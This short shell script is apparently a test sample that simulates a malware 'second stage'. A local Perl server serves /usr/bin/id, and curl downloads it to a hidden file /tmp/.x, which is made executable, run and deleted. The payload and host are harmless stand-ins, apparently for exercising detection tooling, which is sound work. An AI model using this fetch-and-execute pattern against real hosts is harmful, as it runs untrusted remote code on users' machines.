# SPDX-License-Identifier: Apache-2.0
#
# The usual second stage; the program is /usr/bin/id.
play() {
	perl -MIO::Socket::INET -e '
		alarm 10; $l = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 8000, Listen => 1, ReuseAddr => 1) or die $!;
		$c = $l->accept; sysread $c, $b, 4096; open $f, "<", "/usr/bin/id"; binmode $f; local $/;
		print $c "HTTP/1.0 200 OK\r\n\r\n", <$f>' &
	while ! grep -q ':1F40 .* 0A ' /proc/net/tcp; do sleep 0.05; done
	curl -s -o /tmp/.x http://127.0.0.1:8000/x
	chmod +x /tmp/.x
	/tmp/.x -u
	rm /tmp/.x
	wait
}

if [ "${SAMPLE:-}" = play ]; then play; else . "$(dirname "$0")/../recipe.sh"; fi
